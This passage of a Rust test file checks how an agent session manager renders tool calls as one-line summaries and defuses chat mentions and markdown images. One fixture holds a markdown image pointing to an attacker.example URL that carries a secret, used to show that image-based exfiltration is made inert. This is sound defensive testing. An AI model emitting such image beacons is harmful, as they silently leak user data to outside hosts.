            &json!({"pattern": "fn main", "path": "src", "-n": true})
        ),
        "🔧 `Grep` `fn main` in `src`"
    );
}

#[test]
fn web_and_agent_tools() {
    assert_eq!(
        tool_use_line(
            "WebFetch",
            &json!({"url": "https://example.com/x", "prompt": "p"})
        ),
        "🔧 `WebFetch` `https://example.com/x`"
    );
    assert_eq!(
        tool_use_line("WebSearch", &json!({"query": "rust async"})),
        "🔧 `WebSearch` `rust async`"
    );
    for tool in ["Task", "Agent"] {
        assert_eq!(
            tool_use_line(
                tool,
                &json!({"description": "Find bugs", "prompt": "long..."})
            ),
            format!("🔧 `{tool}` `Find bugs`")
        );
    }
}

#[test]
fn todo_write_counts_todos() {
    let three = json!({"todos": [{"content": "a"}, {"content": "b"}, {"content": "c"}]});
    assert_eq!(tool_use_line("TodoWrite", &three), "🔧 `TodoWrite` 3 todos");
    let one = json!({"todos": [{"content": "a"}]});
    assert_eq!(tool_use_line("TodoWrite", &one), "🔧 `TodoWrite` 1 todo");
    assert_eq!(
        tool_use_line("TodoWrite", &json!({"todos": []})),
        "🔧 `TodoWrite` 0 todos"
    );
}

#[test]
fn other_tools_show_first_short_string() {
    assert_eq!(
        tool_use_line(
            "mcp__github__create_issue",
            &json!({"body": "x".repeat(500), "title": "Bug"})
        ),
        "🔧 `mcp__github__create_issue` `Bug`"
    );
    assert_eq!(
        tool_use_line("Custom", &json!({"a": 1, "b": "first", "c": "second"})),
        "🔧 `Custom` `first`"
    );
    assert_eq!(
        tool_use_line("Custom", &json!("plain string")),
        "🔧 `Custom` `plain string`"
    );
    assert_eq!(
        tool_use_line("Custom", &json!({"n": 5, "o": {"deep": "x"}})),
        "🔧 `Custom`"
    );
}

#[test]
fn empty_and_weird_inputs_give_the_name() {
    for input in [
        json!({}),
        Value::Null,
        json!(42),
        json!(1.5),
        json!(true),
        json!([1, "two", {"command": "x"}]),
        json!({"command": {"nested": "ls"}}),
        json!({"command": 5}),
        json!({"command": "   \n  "}),
        json!(""),
    ] {
        assert_eq!(tool_use_line("Bash", &input), "🔧 `Bash`", "input {input}");
    }
    assert_eq!(tool_use_line("", &json!({})), "🔧 tool");
    assert_eq!(tool_use_line(" \n", &Value::Null), "🔧 tool");
}

#[test]
fn agent_mentions_and_images_are_made_inert_outside_code() {
    use session_manager::chat::render::neutralize;
    let text = "Hey @here and @channel, ping @alice (mail bob@example.com).\n\
                ![x](http://attacker.example/leak?d=secret) and ![y][ref]\n\
                `@all stays` in code\n```python\n@decorator\n![kept](in code)\n```\nafter @all\n";
    let out = neutralize(text);
    for live in ["@here and", "@channel,", "@alice (", "after @all"] {
        assert!(!out.contains(live), "{live:?} still live in {out:?}");
    }
    assert!(
        out.contains("bob@example.com"),
        "an address is not a mention"
    );
    assert!(out.contains("[x](http://attacker.example/leak?d=secret)"));
    assert!(
        !out.contains("![x]") && !out.contains("![y]"),
        "images become links: {out}"
    );
    assert!(out.contains("`@all stays`"), "inline code is left as it is");
    assert!(
        out.contains("@decorator\n![kept](in code)\n"),
        "fenced code is left as it is"
    );
    assert_eq!(neutralize(&out), out, "idempotent");
    let removed: String = out.chars().filter(|&c| c != '\u{2060}').collect();
    assert_eq!(
        removed,
        text.replace("![x]", "[x]").replace("![y]", "[y]"),
        "nothing else changes"
    );
}

proptest! {
    #[test]
    fn neutralize_never_panics_and_only_inserts_joiners_or_drops_bangs(text in "\\PC{0,200}") {
        let out = session_manager::chat::render::neutralize(&text);
        let back: String = out.chars().filter(|&c| c != '\u{2060}').collect();
        prop_assert!(back.len() <= text.len());
    }
}
